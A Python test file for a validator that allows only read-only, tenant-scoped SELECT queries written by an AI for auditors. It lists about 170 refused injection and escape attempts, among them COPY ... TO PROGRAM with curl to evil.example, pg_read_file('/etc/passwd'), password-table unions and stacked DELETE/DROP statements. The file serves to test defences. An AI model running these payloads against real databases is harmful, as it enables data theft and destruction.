"""The SQL safety layer of auditors' AI queries: `validate.check` refuses anything but one read-only
SELECT over the allow-listed tables and columns (an adversarial suite, in both dialects), and
`scope.scoped_sql` makes what passes read only the auditor's provider's rows (shown on SQLite against
two providers' books).

Building SQL text is what this module is about: the strings are the attacks and the analyses."""

# ruff: noqa: S608

from datetime import date
from decimal import Decimal

import pytest
import sqlglot
from django.db import connection as database
from sqlglot import exp

from accounts.roles import Role
from auditing.ai import schema
from auditing.ai.scope import scoped_sql
from auditing.ai.validate import DIALECTS, MAX_CHARS, QueryRefused, check
from config.errors import DomainError
from invoicing.models import Invoice, PaymentMethod
from invoicing.selectors import pending_chunks
from invoicing.services import (
    adjustment_create,
    billing_run_chunk_bill,
    billing_run_start,
    invoice_issue,
    invoice_update,
    invoices_mark_overdue,
    payment_post,
)
from tests.factories import (
    ConnectionFactory,
    CustomerFactory,
    FlatTariffFactory,
    ProviderFactory,
    UserFactory,
    billable_connection,
)

D = Decimal
JANUARY, FEBRUARY, MARCH = date(2024, 1, 1), date(2024, 2, 1), date(2024, 3, 1)

WRITES = "Only SELECT queries over the audit tables can run; this one writes data"
SEVERAL = "more than one statement"
NOT_SELECT = "Only SELECT queries over the audit tables can run"
TABLE = "is not one auditors may read; these are: invoices, invoice_lines"
SCHEMA = "names a schema"
COLUMN = "is not one auditors may read"
FUNCTION = "is not one auditors' queries may call"
LOCK = "Locking clauses"
UNREADABLE = "could not be read as SQL"
NAME = "names are plain ASCII"


def refused(case_id: str, sql: str, reason: str | None = None):
    return pytest.param(sql, reason, id=case_id)


DEEP_SUBQUERIES = "SELECT * FROM " + "(SELECT * FROM " * 200 + "invoices" + ") AS s" * 200

ADVERSARIAL = [
    # Several statements.
    refused("several/select-then-delete", "SELECT id FROM invoices; DELETE FROM invoices", SEVERAL),
    refused("several/select-then-drop", "SELECT 1; DROP TABLE invoicing_invoice", SEVERAL),
    refused("several/after-a-comment", "SELECT id FROM invoices; -- fine\nUPDATE invoices SET balance = 0"),
    refused("several/double-semicolon", "SELECT id FROM invoices;;DELETE FROM invoices", SEVERAL),
    refused("several/backslash-closes-no-string", "SELECT 'a\\' ; DELETE FROM invoices; --'", SEVERAL),
    refused(
        "several/comment-after-semicolon", "SELECT * FROM invoices;--", "Nothing may follow the semicolon"
    ),
    # Transaction escapes.
    refused("transaction/commit-then-delete", "COMMIT; DELETE FROM invoices", SEVERAL),
    refused("transaction/rollback-then-update", "ROLLBACK; UPDATE invoices SET status = 'Paid'", SEVERAL),
    refused("transaction/end-then-delete", "END; DELETE FROM invoices", SEVERAL),
    refused("transaction/begin", "BEGIN; SELECT 1", SEVERAL),
    refused("transaction/read-write", "SET TRANSACTION READ WRITE", NOT_SELECT),
    refused(
        "transaction/session-read-write", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", NOT_SELECT
    ),
    refused("transaction/start-read-write", "START TRANSACTION READ WRITE", UNREADABLE),
    refused("transaction/set-role", "SET ROLE postgres", NOT_SELECT),
    refused("transaction/reset-role", "RESET ROLE", NOT_SELECT),
    refused("transaction/savepoint", "SAVEPOINT escape", NOT_SELECT),
    # Data-modifying WITH queries.
    refused(
        "cte/delete", "WITH x AS (DELETE FROM invoices RETURNING *) SELECT * FROM x", f"{WRITES} (DELETE)"
    ),
    refused(
        "cte/update",
        "WITH x AS (UPDATE invoices SET balance = 0 RETURNING id) SELECT count(*) FROM x",
        f"{WRITES} (UPDATE)",
    ),
    refused(
        "cte/insert",
        "WITH x AS (INSERT INTO audit_log (action) VALUES ('x') RETURNING id) SELECT id FROM x",
        f"{WRITES} (INSERT)",
    ),
    refused(
        "cte/delete-in-subquery",
        "SELECT * FROM (WITH d AS (DELETE FROM payments RETURNING id) SELECT id FROM d) AS s",
        f"{WRITES} (DELETE)",
    ),
    # SELECT INTO.
    refused("into/table", "SELECT * INTO stolen FROM invoices", f"{WRITES} (SELECT INTO)"),
    refused("into/temp-table", "SELECT id INTO TEMP t FROM invoices", f"{WRITES} (SELECT INTO)"),
    # Locking clauses.
    refused("lock/for-update", "SELECT * FROM invoices FOR UPDATE", LOCK),
    refused("lock/for-share", "SELECT * FROM invoices FOR SHARE", LOCK),
    refused("lock/nowait", "SELECT * FROM invoices FOR UPDATE NOWAIT", LOCK),
    refused("lock/skip-locked", "SELECT * FROM invoices FOR NO KEY UPDATE SKIP LOCKED", LOCK),
    refused("lock/in-subquery", "SELECT * FROM (SELECT id FROM invoices FOR UPDATE) AS s", LOCK),
    # DDL and DML.
    refused("ddl/drop", "DROP TABLE invoices", "(DROP)"),
    refused("ddl/create-as", "CREATE TABLE x AS SELECT * FROM invoices"),
    refused("ddl/alter", "ALTER TABLE invoices ADD COLUMN x int", "(ALTER)"),
    refused("ddl/alter-role", "ALTER ROLE auditor SUPERUSER", NOT_SELECT),
    refused(
        "ddl/create-function",
        "CREATE FUNCTION f() RETURNS int AS $$ DELETE FROM x RETURNING 1 $$ LANGUAGE sql",
    ),
    refused("ddl/grant", "GRANT ALL ON invoices TO public", "(GRANT)"),
    refused("ddl/revoke", "REVOKE ALL ON invoices FROM auditor", "(REVOKE)"),
    refused("dml/truncate", "TRUNCATE invoices", f"{WRITES} (TRUNCATE)"),
    refused("dml/insert", "INSERT INTO invoices (id) VALUES (1)", f"{WRITES} (INSERT)"),
    refused("dml/update", "UPDATE invoices SET balance = 0", f"{WRITES} (UPDATE)"),
    refused("dml/delete", "DELETE FROM audit_log", f"{WRITES} (DELETE)"),
    refused(
        "dml/merge",
        "MERGE INTO invoices USING payments ON true WHEN MATCHED THEN DELETE",
        f"{WRITES} (MERGE)",
    ),
    refused("dml/copy-to-program", "COPY invoices TO PROGRAM 'curl http://evil.example'", "(COPY)"),
    refused("dml/copy-query-to-file", "COPY (SELECT * FROM invoices) TO '/tmp/x'", "(COPY)"),
    # DDL and DML hidden in functions; files, large objects, settings, backends.
    refused(
        "function/dblink-exec", "SELECT dblink_exec('host=x', 'DELETE FROM invoicing_invoice')", FUNCTION
    ),
    refused(
        "function/dblink",
        "SELECT * FROM dblink('dbname=x', 'select password from accounts_user') AS t(p text)",
    ),
    refused(
        "function/query-to-xml",
        "SELECT query_to_xml('delete from invoicing_invoice', true, true, '')",
        FUNCTION,
    ),
    refused(
        "function/pg-catalog-set-config", "SELECT pg_catalog.set_config('app.provider', '2', false)", SCHEMA
    ),
    refused("function/set-config", "SELECT set_config('app.provider', '2', false)", "Function set_config"),
    refused("function/lo-import", "SELECT lo_import('/etc/passwd')", "Function lo_import"),
    refused("function/lo-export", "SELECT lo_export(1, '/tmp/x')", FUNCTION),
    refused("function/pg-read-file", "SELECT pg_read_file('/etc/passwd')", "Function pg_read_file"),
    refused("function/pg-ls-dir", "SELECT pg_ls_dir('/')", FUNCTION),
    refused("function/pg-sleep", "SELECT pg_sleep(100)", "Function pg_sleep"),
    refused("function/pg-sleep-in-where", "SELECT id FROM invoices WHERE pg_sleep(10) IS NULL", FUNCTION),
    refused("function/terminate-backend", "SELECT pg_terminate_backend(1)", FUNCTION),
    refused("function/cancel-backend", "SELECT pg_cancel_backend(1)", FUNCTION),
    refused("function/advisory-lock", "SELECT pg_advisory_lock(1)", FUNCTION),
    refused("function/txid-current", "SELECT txid_current()", FUNCTION),
    refused("function/nextval", "SELECT nextval('invoicing_invoice_id_seq')", "Function nextval"),
    refused("function/current-setting", "SELECT current_setting('is_superuser')", "Function current_setting"),
    refused("function/version", "SELECT version()", FUNCTION),
    refused("function/current-user", "SELECT current_user", FUNCTION),
    refused("function/server-address", "SELECT inet_server_addr()", FUNCTION),
    refused("function/sqlite-load-extension", "SELECT load_extension('/tmp/evil.so')", FUNCTION),
    refused("function/cast-to-regproc", "SELECT 'pg_sleep'::regproc"),
    refused("function/cast-to-regclass", "SELECT CAST(id AS regclass) FROM invoices"),
    # System catalogs.
    refused("catalog/pg-stat-activity", "SELECT * FROM pg_stat_activity", f"Table pg_stat_activity {TABLE}"),
    refused("catalog/pg-catalog-pg-user", "SELECT * FROM pg_catalog.pg_user", SCHEMA),
    refused("catalog/information-schema", "SELECT table_name FROM information_schema.tables", SCHEMA),
    refused("catalog/sqlite-master", "SELECT sql FROM sqlite_master", f"Table sqlite_master {TABLE}"),
    refused("catalog/sqlite-schema", "SELECT * FROM sqlite_schema", TABLE),
    refused("catalog/pg-shadow", "SELECT passwd FROM pg_shadow", f"Table pg_shadow {TABLE}"),
    refused("catalog/pg-user", "SELECT usename FROM pg_user", f"Table pg_user {TABLE}"),
    refused("catalog/pg-settings", "SELECT * FROM pg_settings", TABLE),
    refused(
        "catalog/joined",
        "SELECT i.id FROM invoices AS i JOIN pg_roles AS r ON true",
        f"Table pg_roles {TABLE}",
    ),
    # Other tables by union or join; WITH names that would mean a real table.
    refused(
        "tenant/union-real-table",
        "SELECT number FROM invoices UNION SELECT number FROM invoicing_invoice",
        TABLE,
    ),
    refused(
        "tenant/join-real-table",
        "SELECT i.number FROM invoices AS i JOIN invoicing_invoice AS r ON r.id = i.id",
    ),
    refused(
        "tenant/union-users", "SELECT id FROM invoices UNION ALL SELECT password FROM accounts_user", TABLE
    ),
    refused("tenant/public-schema", "SELECT * FROM public.invoicing_invoice", SCHEMA),
    refused("tenant/sqlite-main-schema", "SELECT * FROM main.invoicing_invoice", SCHEMA),
    refused(
        "tenant/cte-over-real-table", "WITH a AS (SELECT * FROM invoicing_invoice) SELECT * FROM a", TABLE
    ),
    refused(
        "tenant/cte-shadows-the-filter-source",
        "WITH invoicing_invoice AS (SELECT 1 AS id, 7 AS provider_id) SELECT * FROM invoice_lines",
        "may not be named invoicing_invoice",
    ),
    refused(
        "tenant/cte-reads-itself",
        "WITH accounts_user AS (SELECT * FROM accounts_user) SELECT * FROM accounts_user",
        "may not be named",
    ),
    refused(
        "tenant/cte-named-like-a-table",
        "WITH invoices AS (SELECT 1 AS id) SELECT * FROM invoices",
        "may not be",
    ),
    refused(
        "tenant/cte-forward-reference",
        "WITH a AS (SELECT * FROM b), b AS (SELECT id FROM invoices) SELECT * FROM a",
        f"Table b {TABLE}",
    ),
    refused(
        "tenant/cte-out-of-scope",
        "SELECT * FROM (WITH x AS (SELECT id FROM invoices) SELECT * FROM x) AS s, x",
        f"Table x {TABLE}",
    ),
    # Password, token and session columns.
    refused(
        "secret/password",
        "SELECT password FROM users",
        "Column password is not one auditors may read in users",
    ),
    refused("secret/accounts-user", "SELECT * FROM accounts_user", f"Table accounts_user {TABLE}"),
    refused("secret/email", "SELECT email FROM users", COLUMN),
    refused("secret/qualified-password", "SELECT u.password FROM users AS u", "Column password"),
    refused("secret/outstanding-token", "SELECT token FROM token_blacklist_outstandingtoken", TABLE),
    refused(
        "secret/django-session", "SELECT session_data FROM django_session", f"Table django_session {TABLE}"
    ),
    refused("secret/idempotency-key", "SELECT idempotency_key FROM payments", COLUMN),
    refused("secret/request-hash", "SELECT request_hash FROM payments", COLUMN),
    refused(
        "secret/joined-email",
        "SELECT users.email FROM invoices JOIN users ON users.id = invoices.created_by_id",
    ),
    refused("secret/audit-hashes", "SELECT hash, prev_hash FROM audit_log", COLUMN),
    refused("secret/column-of-another-table", "SELECT u.amount FROM users AS u", "in users; its columns are"),
    # Comments and quoting tricks.
    refused(
        "comment/block-hides-nothing",
        "SELECT id FROM invoices /* fine */; DROP TABLE invoicing_invoice",
        SEVERAL,
    ),
    refused("comment/line-then-statement", "SELECT id FROM invoices -- \n; DELETE FROM invoices", SEVERAL),
    refused("comment/inside-keyword", "SEL/**/ECT password FROM users", UNREADABLE),
    refused("comment/semicolon-dash-dash", "SELECT * FROM INVOICES;--\nDELETE FROM invoices", SEVERAL),
    refused("quote/password", 'SELECT "password" FROM "users"', "Column password"),
    refused("quote/upper-case-table", 'SELECT * FROM "ACCOUNTS_USER"', TABLE),
    refused("quote/catalog", 'SELECT * FROM "pg_catalog"."pg_user"', SCHEMA),
    # A WITH name that differs from a catalog view only in quotes or case: PostgreSQL would read the view.
    *(
        refused(f"catalog/with-name-in-other-case/{view}", sql, "differs from a WITH query's name only")
        for view, sql in (
            (
                "pg_stat_user_tables",
                'WITH "PG_STAT_USER_TABLES" AS (SELECT 1) SELECT * FROM pg_stat_user_tables',
            ),
            ("pg_roles", 'WITH "Pg_Roles" AS (SELECT 1 AS x) SELECT * FROM pg_roles'),
            ("pg_settings", 'WITH "pg_Settings" AS (SELECT 1 AS x) SELECT name, setting FROM PG_SETTINGS'),
            (
                "pg_stat_activity",
                'WITH x AS (SELECT 1), "PG_STAT_ACTIVITY" AS (SELECT 1) SELECT * FROM pg_stat_activity',
            ),
            (
                "pg_database",
                'WITH "PG_DATABASE" AS (SELECT 1) SELECT 1 FROM (SELECT datname FROM pg_database) AS d',
            ),
            ("quoted-reference", 'WITH pg_class AS (SELECT 1 AS x) SELECT * FROM "PG_CLASS"'),
            (
                "joined",
                'WITH "Pg_Authid" AS (SELECT 1 AS x) SELECT i.id FROM invoices i JOIN pg_authid a ON true',
            ),
        )
    ),
    refused(
        "quote/table-in-other-case", 'SELECT * FROM "INVOICES"', "a quoted name is exact; write invoices"
    ),
    refused("quote/schema-and-table", 'SELECT * FROM "ai_views"."invoices"', SCHEMA),
    refused("quote/pg-catalog-unquoted", "SELECT * FROM PG_CATALOG.PG_STAT_USER_TABLES", SCHEMA),
    refused("quote/backticks", "SELECT `password` FROM users"),
    refused("quote/brackets", "SELECT [password] FROM [users]"),
    refused(
        "quote/alias-breaking-out", 'SELECT 1 AS "x""; DROP TABLE invoicing_invoice; --" FROM invoices', NAME
    ),
    # Unicode escapes and look-alikes.
    refused("unicode/u-amp-string", "SELECT U&'\\0044ELETE'"),
    refused("unicode/u-amp-identifier", 'SELECT U&"\\0070assword" FROM users'),
    refused("unicode/e-string", "SELECT E'\\x44ROP'"),
    refused("unicode/cyrillic-i-table", "SELECT * FROM \u0456nvoices", NAME),
    refused("unicode/cyrillic-a-column", "SELECT p\u0430ssword FROM users", NAME),
    refused("unicode/zero-width-space", 'SELECT * FROM "invoices\u200b"', NAME),
    refused(
        "unicode/greek-question-mark",
        "SELECT id FROM invoices WHERE status = 'Paid'\u037e DELETE FROM invoices",
        UNREADABLE,
    ),
    refused("unicode/fullwidth-semicolon", "SELECT id FROM invoices\uff1b DELETE FROM invoices", UNREADABLE),
    # Huge or deeply nested input.
    refused(
        "huge/100k-characters",
        "SELECT id FROM invoices WHERE number = '" + "a" * 100_000 + "'",
        "characters long",
    ),
    refused("huge/200-nested-subqueries", DEEP_SUBQUERIES, "nested too deeply"),
    refused("huge/1000-parentheses", "SELECT " + "(" * 1000 + "1" + ")" * 1000, "nested too deeply"),
    refused(
        "huge/12-nested-subqueries", "SELECT * FROM " + "(SELECT * FROM " * 12 + "invoices" + ") AS s" * 12
    ),
    refused(
        "huge/in-list", "SELECT id FROM invoices WHERE id IN (" + ",".join(["1"] * 2400) + ")", "too large"
    ),
    refused("huge/400-conditions", "SELECT id FROM invoices WHERE " + " AND ".join(["id = 1"] * 400)),
    # Expensive queries.
    refused(
        "expensive/generate-series-over-a-column",
        "SELECT g FROM invoices AS i, generate_series(1, i.id) AS g",
        "generate_series takes constants only",
    ),
    refused(
        "expensive/generate-series-over-a-query",
        "SELECT g FROM generate_series(1, (SELECT max(id) FROM invoices)) AS g",
        "generate_series takes constants only",
    ),
    refused("expensive/generate-series-select", "SELECT generate_series(1, 1e12)", FUNCTION),
    refused(
        "expensive/recursive-cte",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        "Recursive queries",
    ),
    refused(
        "expensive/sqlite-implicit-recursion",
        "WITH r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        f"Table r {TABLE}",
    ),
    refused(
        "expensive/eight-table-cross-join",
        "SELECT count(*) FROM invoices a, invoices b, invoices c, invoices d, invoices e, invoices f, "
        "invoices g, invoices h",
        "at most 6",
    ),
    refused(
        "expensive/explicit-cross-joins",
        "SELECT count(*) FROM invoices a CROSS JOIN payments b CROSS JOIN users c CROSS JOIN customers d "
        "CROSS JOIN connections e CROSS JOIN audit_log f CROSS JOIN meter_readings g CROSS JOIN tariffs h",
        "at most 6",
    ),
    refused("expensive/repeat", "SELECT repeat('x', 1000000000)", FUNCTION),
    refused("expensive/randomblob", "SELECT randomblob(1000000000)", FUNCTION),
    refused("expensive/zeroblob", "SELECT zeroblob(1000000000)", FUNCTION),
    refused(
        "expensive/lateral-generate-series", "SELECT * FROM invoices, LATERAL generate_series(1, 1000) AS g"
    ),
    refused(
        "expensive/lateral-subquery",
        "SELECT * FROM invoices AS i, LATERAL (SELECT * FROM pg_ls_dir('/')) AS f",
    ),
    refused("expensive/lateral-sleep", "SELECT * FROM invoices CROSS JOIN LATERAL pg_sleep(10)"),
    # Commands.
    refused("command/execute", "EXECUTE stolen", NOT_SELECT),
    refused("command/prepare", "PREPARE p AS DELETE FROM invoices", NOT_SELECT),
    refused("command/do", "DO $$ BEGIN DELETE FROM invoicing_invoice; END $$"),
    refused("command/call", "CALL do_something()", NOT_SELECT),
    refused("command/listen", "LISTEN channel", NOT_SELECT),
    refused("command/notify", "NOTIFY channel, 'x'", UNREADABLE),
    refused("command/load", "LOAD 'plpython3u'", NOT_SELECT),
    refused("command/vacuum", "VACUUM FULL", NOT_SELECT),
    refused("command/analyze", "ANALYZE invoices", NOT_SELECT),
    refused("command/explain-analyze", "EXPLAIN ANALYZE DELETE FROM invoices", NOT_SELECT),
    refused("command/show", "SHOW ALL", NOT_SELECT),
    refused("command/declare-cursor", "DECLARE c CURSOR FOR SELECT * FROM invoices"),
    refused("command/checkpoint", "CHECKPOINT", NOT_SELECT),
    refused("command/discard", "DISCARD ALL", NOT_SELECT),
    refused("sqlite/attach", "ATTACH DATABASE '/tmp/x.db' AS x"),
    refused("sqlite/detach", "DETACH DATABASE x"),
    refused("sqlite/pragma", "PRAGMA writable_schema = 1", NOT_SELECT),
    # Not a SELECT over the tables, in smaller ways.
    refused("other/values", "VALUES (1)", NOT_SELECT),
    refused("other/table-statement", "TABLE accounts_user"),
    refused("other/parameter", "SELECT $1"),
    refused("other/tablesample", "SELECT * FROM invoices TABLESAMPLE SYSTEM (10)"),
    refused("other/empty", "", "empty"),
    refused("other/only-a-comment", "  -- nothing", "empty"),
]


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(("sql", "reason"), ADVERSARIAL)
def test_the_adversarial_query_is_refused(sql, reason, dialect):
    with pytest.raises(QueryRefused) as refusal:
        check(sql, dialect=dialect)

    assert refusal.value.code == "query_refused"
    assert refusal.value.detail
    if reason:
        assert reason in refusal.value.detail


def test_the_suite_is_big_enough():
    assert len(ADVERSARIAL) >= 60
    assert len(ANALYTIC) >= 15


def test_a_refusal_is_a_domain_error_the_api_answers_with_400():
    with pytest.raises(DomainError) as refusal:
        check("DELETE FROM invoices", dialect="postgres")

    assert (refusal.value.code, refusal.value.status) == ("query_refused", 400)
    assert refusal.value.detail == (
        "Only SELECT queries over the audit tables can run; this one writes data (DELETE)."
    )


def test_a_refused_table_names_the_tables_auditors_may_read():
    with pytest.raises(QueryRefused) as refusal:
        check("SELECT * FROM pg_user", dialect="postgres")

    assert refusal.value.detail == (
        f"Table pg_user is not one auditors may read; these are: {', '.join(schema.BY_NAME)}."
    )


def test_the_size_limit_is_checked_before_parsing():
    just_under = "SELECT id FROM invoices WHERE number = '" + "a" * (MAX_CHARS - 60) + "'"
    check(just_under, dialect="sqlite")
    with pytest.raises(QueryRefused, match="characters long"):
        check(just_under + " " * 61, dialect="sqlite")


def test_an_unknown_dialect_is_a_programming_error():
    with pytest.raises(ValueError, match="dialect"):
        check("SELECT 1", dialect="mysql")


# --- what passes ----------------------------------------------------------------------------------


def analytic(case_id: str, postgres: str, sqlite: str | None = None):
    return pytest.param(postgres, sqlite or postgres, id=case_id)


CUSTOMER_NAMES = "JOIN customers AS c ON c.id = i.customer_id JOIN users AS u ON u.id = c.user_id"

ANALYTIC = [
    analytic(
        "unpaid-invoices-last-month",
        "SELECT number, customer_id, balance, due_date FROM invoices WHERE status IN ('Pending', "
        "'Partially_Paid', 'Overdue') AND period = date_trunc('month', current_date - interval '1 month') "
        "ORDER BY balance DESC",
        "SELECT number, customer_id, balance, due_date FROM invoices WHERE status IN ('Pending', "
        "'Partially_Paid', 'Overdue') AND period = date('now', 'start of month', '-1 month') ORDER BY balance DESC",
    ),
    analytic(
        "unpaid-invoices-of-january-2024",
        "SELECT number, balance FROM invoices WHERE status <> 'Paid' AND status <> 'Cancelled' "
        "AND period = '2024-01-01' ORDER BY number",
    ),
    analytic(
        "revenue-by-month",
        "SELECT period AS month, sum(current_charges) AS billed, sum(amount_paid) AS collected FROM invoices "
        "WHERE status <> 'Cancelled' GROUP BY period ORDER BY period",
    ),
    analytic(
        "payments-received-by-month",
        "SELECT to_char(received_at, 'YYYY-MM') AS month, count(*) AS payments, sum(amount) AS received "
        "FROM payments GROUP BY 1 ORDER BY 1",
        "SELECT strftime('%Y-%m', received_at) AS month, count(*) AS payments, sum(amount) AS received "
        "FROM payments GROUP BY 1 ORDER BY 1",
    ),
    analytic(
        "overdue-customers-with-names",
        f"SELECT c.number, u.name, count(*) AS bills, sum(i.balance) AS owed FROM invoices AS i {CUSTOMER_NAMES} "
        "WHERE i.status = 'Overdue' GROUP BY c.number, u.name ORDER BY owed DESC",
    ),
    analytic(
        "invoices-per-creator",
        "SELECT u.name, u.designation, count(*) AS invoices FROM invoices i JOIN users u ON u.id = i.created_by_id "
        "GROUP BY u.name, u.designation ORDER BY invoices DESC",
    ),
    analytic(
        "adjustments-per-officer",
        "SELECT officer_name, officer_designation, count(*) AS adjustments, "
        "sum(CASE WHEN direction = 'credit' THEN -amount ELSE amount END) AS net FROM adjustments "
        "WHERE kind = 'officer' GROUP BY officer_name, officer_designation ORDER BY adjustments DESC",
    ),
    analytic(
        "payments-by-method",
        "SELECT m.name AS method, count(p.id) AS payments, sum(p.amount) AS total FROM payments p "
        "JOIN payment_methods m ON m.id = p.method_id GROUP BY m.name ORDER BY total DESC",
    ),
    analytic(
        "average-bill-per-connection-type",
        "SELECT ct.code, ct.description, round(avg(i.current_charges), 2) AS average_bill, count(*) AS bills "
        "FROM invoices i JOIN connections s ON s.id = i.connection_id "
        "JOIN connection_types ct ON ct.id = s.connection_type_id GROUP BY ct.code, ct.description ORDER BY 1",
    ),
    analytic(
        "top-10-consumers-by-kwh",
        f"SELECT c.number, u.name, sum(i.kwh_consumed) AS kwh FROM invoices i {CUSTOMER_NAMES} "
        "WHERE i.status <> 'Cancelled' GROUP BY c.number, u.name ORDER BY kwh DESC, c.number LIMIT 10",
    ),
    analytic(
        "late-surcharges-this-year",
        "SELECT a.number, i.number AS invoice, a.amount, a.created_at FROM adjustments a "
        "JOIN invoices i ON i.id = a.invoice_id WHERE a.kind = 'late_surcharge' "
        "AND extract(year FROM a.created_at) = extract(year FROM current_date) ORDER BY a.created_at",
        "SELECT a.number, i.number AS invoice, a.amount, a.created_at FROM adjustments a "
        "JOIN invoices i ON i.id = a.invoice_id WHERE a.kind = 'late_surcharge' "
        "AND strftime('%Y', a.created_at) = strftime('%Y', 'now') ORDER BY a.created_at",
    ),
    analytic(
        "late-surcharges-ever",
        "SELECT count(*) AS surcharges, coalesce(sum(amount), 0) AS total FROM adjustments "
        "WHERE kind = 'late_surcharge'",
    ),
    analytic(
        "collection-rate-by-month",
        "SELECT period, sum(amount_paid) AS collected, sum(payable_before_due) AS billed, "
        "round(100.0 * sum(amount_paid) / nullif(sum(payable_before_due), 0), 1) AS rate_percent "
        "FROM invoices WHERE status <> 'Cancelled' GROUP BY period ORDER BY period",
    ),
    analytic(
        "cancelled-invoices",
        "SELECT number, period, current_charges, created_at FROM invoices WHERE status = 'Cancelled' "
        "ORDER BY created_at DESC",
    ),
    analytic(
        "billing-runs-skipped-counts",
        "SELECT period, status, total, issued, already_billed, skipped, failed, billed_amount FROM billing_runs "
        "ORDER BY period DESC",
    ),
    analytic(
        "tariff-changes-history",
        "SELECT t.code, ct.code AS connection_type, t.rate, t.valid_from, t.valid_to, u.name AS changed_by "
        "FROM tariffs t LEFT JOIN connection_types ct ON ct.id = t.connection_type_id "
        "LEFT JOIN users u ON u.id = t.created_by_id ORDER BY t.valid_from DESC, t.id",
    ),
    analytic(
        "payments-received-per-staff-member",
        "SELECT u.name, u.designation, count(*) AS payments, sum(p.amount) AS received FROM payments p "
        "JOIN users u ON u.id = p.received_by_id GROUP BY u.name, u.designation ORDER BY received DESC",
    ),
    analytic(
        "customers-with-arrears-over-5000",
        f"SELECT c.number, u.name, i.period, i.arrears FROM invoices AS i {CUSTOMER_NAMES} "
        "WHERE i.arrears > 5000 ORDER BY i.arrears DESC, c.number",
    ),
    analytic(
        "bill-lines-by-kind",
        "SELECT l.kind, count(*) AS lines, sum(l.amount) AS total FROM invoice_lines l "
        "JOIN invoices i ON i.id = l.invoice_id WHERE i.period = '2024-01-01' GROUP BY l.kind",
    ),
    analytic(
        "payment-allocations",
        "SELECT p.receipt_number, i.number AS invoice, a.amount FROM payment_allocations a "
        "JOIN payments p ON p.id = a.payment_id JOIN invoices i ON i.id = a.invoice_id ORDER BY 1, 2",
    ),
    analytic(
        "month-on-month-change",
        "WITH monthly AS (SELECT period, sum(current_charges) AS billed FROM invoices GROUP BY period) "
        "SELECT period, billed, billed - lag(billed) OVER (ORDER BY period) AS change FROM monthly ORDER BY period",
    ),
    analytic(
        "rank-customers-by-balance",
        "SELECT * FROM (SELECT customer_id, sum(balance) AS owed, rank() OVER (ORDER BY sum(balance) DESC) AS r "
        "FROM invoices WHERE status IN ('Pending', 'Partially_Paid', 'Overdue') GROUP BY customer_id) AS ranked "
        "WHERE r <= 3 ORDER BY r, customer_id",
    ),
    analytic(
        "customers-who-never-paid",
        "SELECT c.number FROM customers c WHERE NOT EXISTS (SELECT 1 FROM payments p "
        "JOIN connections s ON s.id = p.connection_id WHERE s.customer_id = c.id) ORDER BY c.number",
    ),
    analytic(
        "open-items-union",
        "SELECT 'invoice' AS kind, number AS reference FROM invoices WHERE status = 'Overdue' "
        "UNION ALL SELECT 'payment', receipt_number FROM payments ORDER BY 1, 2",
    ),
    analytic(
        "meter-readings-per-connection",
        "SELECT s.number, count(r.id) AS readings, max(r.taken_at) AS last_read FROM connections s "
        "LEFT JOIN meter_readings r ON r.connection_id = s.id GROUP BY s.number ORDER BY s.number",
    ),
    analytic(
        "tax-rules-in-force",
        "SELECT name, rate, valid_from FROM tax_rules WHERE valid_to IS NULL OR valid_to > current_date",
    ),
    analytic(
        "audit-actions",
        "SELECT action, object_type, count(*) AS events FROM audit_log GROUP BY action, object_type ORDER BY 1, 2",
    ),
    analytic(
        "own-provider-settings",
        "SELECT p.name, p.currency, p.due_days, p.late_surcharge_percent, count(i.id) AS invoices "
        "FROM provider AS p LEFT JOIN invoices AS i ON i.provider_id = p.id GROUP BY p.name, p.currency, "
        "p.due_days, p.late_surcharge_percent",
    ),
    analytic(
        "everything-about-invoices",
        "SELECT * FROM invoices ORDER BY id",
    ),
]

# Filters by hand, comments, string tricks: allowed through, and held by the rewrite.
CONTAINED = [
    pytest.param("SELECT * FROM invoices WHERE provider_id = {theirs}", id="where-their-provider"),
    pytest.param("SELECT * FROM invoices WHERE provider_id <> {mine} OR 1 = 1", id="or-always-true"),
    pytest.param(
        "SELECT number, provider_id FROM invoices WHERE number = '' OR 1=1 --'", id="string-then-comment"
    ),
    pytest.param(
        "SELECT id, provider_id FROM invoices UNION ALL SELECT id, provider_id FROM customers "
        "WHERE provider_id = {theirs}",
        id="union-their-customers",
    ),
    pytest.param("SELECT * FROM payments WHERE provider_id IN ({mine}, {theirs})", id="both-providers"),
    pytest.param("SELECT * FROM users WHERE provider_id = {theirs} OR provider_id IS NULL", id="their-staff"),
    pytest.param("SELECT l.* FROM invoice_lines AS l", id="all-invoice-lines"),
    pytest.param("SELECT a.* FROM payment_allocations AS a", id="all-allocations"),
    pytest.param(
        "SELECT i.provider_id, p.provider_id FROM invoices AS i JOIN payments AS p ON p.invoice_id = i.id",
        id="join",
    ),
    pytest.param(
        "SELECT * FROM invoices WHERE id IN (SELECT invoice_id FROM adjustments WHERE provider_id = {theirs})",
        id="subquery-their-adjustments",
    ),
    pytest.param("WITH x AS (SELECT * FROM invoices WHERE provider_id = {theirs}) SELECT * FROM x", id="cte"),
    pytest.param("SELECT * FROM audit_log WHERE provider_id = {theirs}", id="their-audit-trail"),
    pytest.param(
        "SELECT * FROM connections, customers WHERE customers.provider_id = {theirs}", id="cross-join"
    ),
    pytest.param(
        "SELECT id FROM invoices /* ; DELETE FROM invoicing_invoice */ WHERE 1 = 1 -- ; DROP TABLE x",
        id="comments",
    ),
    pytest.param(
        "SELECT 'x'';DELETE FROM invoicing_invoice;--' AS s, id FROM invoices", id="quote-in-string"
    ),
    pytest.param(
        'SELECT "invoices".id, Provider_Id FROM INVOICES WHERE "invoices".provider_id = {theirs}',
        id="case-and-quotes",
    ),
]


@pytest.mark.parametrize(("postgres", "sqlite"), ANALYTIC)
def test_the_analytic_query_passes_in_both_dialects(postgres, sqlite):
    assert isinstance(check(postgres, dialect="postgres"), exp.Query)
    assert isinstance(check(sqlite, dialect="sqlite"), exp.Query)


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(("postgres", "sqlite"), ANALYTIC)
def test_the_scoped_analytic_query_reads_every_table_through_the_provider_filter(postgres, sqlite, dialect):
    sql = postgres if dialect == "postgres" else sqlite
    tree = check(sql, dialect=dialect)

    scoped = scoped_sql(tree, provider_id=42, dialect=dialect)

    assert_scoped(scoped, tree, provider_id=42, dialect=dialect, sources=SOURCES)


